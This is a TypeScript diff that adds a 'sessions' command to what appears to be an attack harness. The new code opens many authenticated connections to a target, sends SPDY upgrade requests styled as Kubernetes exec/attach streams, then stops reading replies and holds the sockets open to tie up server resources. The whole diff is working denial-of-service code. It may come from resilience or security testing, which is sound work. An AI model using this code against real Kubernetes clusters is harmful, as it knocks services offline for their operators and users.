@@ -45,6 +45,7 @@ export type AttackCommand =
       seconds: number;
     }
   | { kind: 'idle'; to: Target; keys: string[]; send: Send; count: number; seconds: number }
+  | { kind: 'sessions'; to: Target; keys: string[]; path: string; count: number; sent: number; seconds: number }
   /** Meanwhile, if there is a `send`, it is sent again and again with the first key. */
   | {
       kind: 'unread';
@@ -185,6 +186,25 @@ async function unread(command: Extract<AttackCommand, { kind: 'unread' }>): Prom
   return result;
 }
 
+async function sessions(command: Extract<AttackCommand, { kind: 'sessions' }>): Promise<AttackResult> {
+  const { to, keys, path, count: many, sent, seconds } = command;
+  const result: AttackResult = { codes: {}, bytes: 0 };
+  const part = Buffer.alloc(sent, 'x');
+  const sockets = await opened(to, many, result, (socket, at) => {
+    socket.once('data', (answer: Buffer) => {
+      addCode(result, codeIn(answer));
+      socket.pause();
+      socket.write(part);
+      result.bytes += sent;
+    });
+    const upgrade = { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'v4.channel.k8s.io' };
+    socket.write(requestHead('POST', path, { authorization: `Bearer ${keys[at % keys.length]}`, ...upgrade }));
+  });
+  await wait(seconds * 1000);
+  for (const socket of sockets) socket.destroy();
+  return result;
+}
+
 /** A few at a time, as a server of any kind accepts them. */
 async function opened(
   to: Target,
@@ -244,6 +264,8 @@ answerCommands<AttackCommand>((command) => {
       return idle(command);
     case 'unread':
       return unread(command);
+    case 'sessions':
+      return sessions(command);
     default:
       return command satisfies never;
   }
